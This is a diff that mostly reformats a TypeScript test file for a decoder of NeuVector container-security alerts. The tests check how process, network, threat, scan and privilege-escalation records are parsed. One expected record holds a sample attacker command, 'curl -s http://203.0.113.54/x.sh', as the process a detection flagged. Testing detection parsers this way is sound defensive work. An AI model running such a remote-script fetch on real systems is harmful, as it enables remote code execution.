@@ -10,8 +10,14 @@ interface Sample {
   body: unknown;
 }
 const fixture = (name: string): string => readFileSync(new URL(`fixtures/${name}`, import.meta.url), 'utf8');
-const samples = fixture('events.jsonl').trim().split('\n').map((line) => JSON.parse(line) as Sample);
-const syslog = fixture('syslog.txt').trim().split('\n').map((line) => parseSyslog(Buffer.from(line), 0).message);
+const samples = fixture('events.jsonl')
+  .trim()
+  .split('\n')
+  .map((line) => JSON.parse(line) as Sample);
+const syslog = fixture('syslog.txt')
+  .trim()
+  .split('\n')
+  .map((line) => parseSyslog(Buffer.from(line), 0).message);
 
 const sample = (n: number): Sample => samples.find(({ meta }) => meta.n === n) as Sample;
 const wire = ({ body }: Sample): string => (typeof body === 'string' ? body : JSON.stringify(body));
@@ -23,7 +29,11 @@ runSourceContract({
   type: 'neuvector',
   create: () => neuvector.create({}, undefined),
   good: [
-    ...samples.map((item) => ({ name: `sample ${item.meta.n} (${item.meta.form})`, body: wire(item), received: { contentType: item.meta.content_type } })),
+    ...samples.map((item) => ({
+      name: `sample ${item.meta.n} (${item.meta.form})`,
+      body: wire(item),
+      received: { contentType: item.meta.content_type },
+    })),
     ...syslog.map((body, index) => ({ name: `syslog line ${index + 1}`, body, received: { contentType: '' } })),
   ],
   item: record(6),
@@ -36,39 +46,62 @@ describe('neuvector', () => {
 
   it('decodes a process incident', () => {
     expect(one(record(6))).toMatchObject({
-      kind: 'process', name: 'Process.Profile.Violation', message: 'Process profile violation', severity_id: 3, time: '2026-09-14T09:04:00.000Z',
-      cluster: 'prod-eu-1', workload: { namespace: 'shop', name: 'storefront' }, pod: { name: 'storefront-6d5f7c9b8d-x2lqp' },
-      image: { name: 'registry.example.com/shop/storefront', tag: '4.18.2' }, node: { name: 'worker-1' }, user: { name: 'www-data', uid: 33 },
-      process: { name: 'curl', path: '/usr/bin/curl', cmd_line: 'curl -s http://203.0.113.54/x.sh', parent: { name: 'sh' } }, disposition: 'Detected', count: 1,
+      kind: 'process',
+      name: 'Process.Profile.Violation',
+      message: 'Process profile violation',
+      severity_id: 3,
+      time: '2026-09-14T09:04:00.000Z',
+      cluster: 'prod-eu-1',
+      workload: { namespace: 'shop', name: 'storefront' },
+      pod: { name: 'storefront-6d5f7c9b8d-x2lqp' },
+      image: { name: 'registry.example.com/shop/storefront', tag: '4.18.2' },
+      node: { name: 'worker-1' },
+      user: { name: 'www-data', uid: 33 },
+      process: { name: 'curl', path: '/usr/bin/curl', cmd_line: 'curl -s http://203.0.113.54/x.sh', parent: { name: 'sh' } },
+      disposition: 'Detected',
+      count: 1,
     });
   });
 
   it('decodes a network violation without the image of the sandbox', () => {
     const violation = one(record(1));
     expect(violation).toMatchObject({
-      kind: 'network', name: 'Network.Violation', message: 'storefront-6d5f7c9b8d-x2lqp connected against policy to paste.example.net:443 (SSL)',
-      workload: { namespace: 'shop', name: 'storefront' }, src_endpoint: { ip: '10.42.1.37', workload: 'storefront', namespace: 'shop' },
-      dst_endpoint: { ip: '203.0.113.54', port: 443, hostname: 'paste.example.net' }, protocol: 'tcp', count: 3,
+      kind: 'network',
+      name: 'Network.Violation',
+      message: 'storefront-6d5f7c9b8d-x2lqp connected against policy to paste.example.net:443 (SSL)',
+      workload: { namespace: 'shop', name: 'storefront' },
+      src_endpoint: { ip: '10.42.1.37', workload: 'storefront', namespace: 'shop' },
+      dst_endpoint: { ip: '203.0.113.54', port: 443, hostname: 'paste.example.net' },
+      protocol: 'tcp',
+      count: 3,
     });
     expect(violation.image).toBeUndefined();
     expect(violation.dst_endpoint).not.toHaveProperty('workload');
   });
 
   it('takes the attacker of a threat as its workload, whichever end the target is', () => {
-    expect(one(record(3))).toMatchObject({ kind: 'threat', disposition: 'Blocked', workload: { name: 'orders-api' }, dst_endpoint: { workload: 'orders-db', port: 3306 } });
+    expect(one(record(3))).toMatchObject({
+      kind: 'threat',
+      disposition: 'Blocked',
+      workload: { name: 'orders-api' },
+      dst_endpoint: { workload: 'orders-db', port: 3306 },
+    });
     expect(one({ ...record(3), target: 'client' }).workload.name).toBe('orders-db');
     const outside = { client_workload_id: 'external', client_workload_name: 'external' };
     expect(one({ ...record(3), ...outside }).workload.name).toBe('orders-db');
   });
 
-  it('reads a process without a uid as root\'s', () => {
+  it("reads a process without a uid as root's", () => {
     const { proc_effective_uid: _u, proc_effective_user: _n, ...rest } = record(6);
     expect(one(rest).user).toEqual({ name: 'root', uid: 0 });
   });
 
   it('decodes a scan report by its repository', () => {
     expect(one(record(13))).toMatchObject({
-      kind: 'vulnerability', severity_id: 5, image: { name: 'shop/storefront', tag: '4.18.2' }, message: 'Registry.Scan.Report: critical: 0, high: 1, medium: 0',
+      kind: 'vulnerability',
+      severity_id: 5,
+      image: { name: 'shop/storefront', tag: '4.18.2' },
+      message: 'Registry.Scan.Report: critical: 0, high: 1, medium: 0',
       labels: { high_vuls: 'CVE-2024-2398', registry_name: 'corp-registry' },
     });
   });
@@ -83,10 +116,13 @@ describe('neuvector', () => {
     expect(one(event).labels).not.toHaveProperty('tocsin.own');
   });
 
-  it('recovers the record from JSON that a quote in the rule\'s comment broke', () => {
+  it("recovers the record from JSON that a quote in the rule's comment broke", () => {
     const violation = one(wire(sample(22)));
     expect(violation).toMatchObject({
-      name: 'Container.Privilege.Escalation', severity_id: 5, workload: { name: 'orders-api' }, user: { name: 'root', uid: 0 },
+      name: 'Container.Privilege.Escalation',
+      severity_id: 5,
+      workload: { name: 'orders-api' },
+      user: { name: 'root', uid: 0 },
       labels: { comment: 'call "red" team', 'neuvector.recovered': 'true' },
     });
     expect(violation.raw).toBe(wire(sample(22)));
@@ -99,14 +135,16 @@ describe('neuvector', () => {
     expect(one(broken)).toMatchObject({ severity_id: 3, labels: { comment: 'a","level":"Info","b" c' } });
   });
 
-  it.each([[19, 'Process.Profile.Violation', 5, 'Blocked'], [20, 'SQL.Injection', 5, 'Blocked'], [21, 'Network.Violation', 3, 'Detected'], [23, 'Container.Scan.Report', 5, 'Detected']])(
-    'reads the text in sample %s as lossy',
-    (n, name, severity, disposition) => {
-      const violation = one(wire(sample(n)));
-      expect(violation).toMatchObject({ name, severity_id: severity, disposition });
-      expect(violation.tags).toContain('lossy');
-    },
-  );
+  it.each([
+    [19, 'Process.Profile.Violation', 5, 'Blocked'],
+    [20, 'SQL.Injection', 5, 'Blocked'],
+    [21, 'Network.Violation', 3, 'Detected'],
+    [23, 'Container.Scan.Report', 5, 'Detected'],
+  ])('reads the text in sample %s as lossy', (n, name, severity, disposition) => {
+    const violation = one(wire(sample(n)));
+    expect(violation).toMatchObject({ name, severity_id: severity, disposition });
+    expect(violation.tags).toContain('lossy');
+  });
 
   it('gives a record the same id by webhook, in text and by syslog', () => {
     const webhook = one(record(1)).id;
@@ -119,7 +157,11 @@ describe('neuvector', () => {
   it('does not let a command line forge fields of the text form', () => {
     const forged = one(syslog[6] ?? '');
     expect(forged).toMatchObject({
-      name: 'Process.Profile.Violation', severity_id: 3, disposition: 'Detected', workload: { name: 'storefront' }, labels: { 'neuvector.ambiguous': 'true' },
+      name: 'Process.Profile.Violation',
+      severity_id: 3,
+      disposition: 'Detected',
+      workload: { name: 'storefront' },
+      labels: { 'neuvector.ambiguous': 'true' },
     });
     expect(one(syslog[3] ?? '').labels).not.toHaveProperty('neuvector.ambiguous');
   });
@@ -131,7 +173,12 @@ describe('neuvector', () => {
 
   it('reads the lists of the REST log and tells the kinds apart by them', () => {
     const body = JSON.stringify({ threats: [record(3)], incidents: [record(6), null], violations: [record(1)] });
-    expect(decode(body).map((entry) => ('kind' in entry ? entry.kind : entry.message))).toEqual(['network', 'threat', 'process', 'is null, expected a record']);
+    expect(decode(body).map((entry) => ('kind' in entry ? entry.kind : entry.message))).toEqual([
+      'network',
+      'threat',
+      'process',
+      'is null, expected a record',
+    ]);
     expect((decode(body)[2] as Violation).id).toBe(one(record(6)).id);
   });
 
@@ -140,7 +187,11 @@ describe('neuvector', () => {
     expect(one({ ...record(17), workload_id: 'other' }).id).not.toBe(one(record(17)).id);
   });
 
-  it.each([['{"a":1}', 'is no NeuVector record'], ['hello', 'is neither JSON'], ['{"text":"hi"}', 'holds no "notification=…" record']])('refuses %s', (body, message) => {
+  it.each([
+    ['{"a":1}', 'is no NeuVector record'],
+    ['hello', 'is neither JSON'],
+    ['{"text":"hi"}', 'holds no "notification=…" record'],
+  ])('refuses %s', (body, message) => {
     let found = '';
     try {
       found = (decode(body)[0] as Error).message;
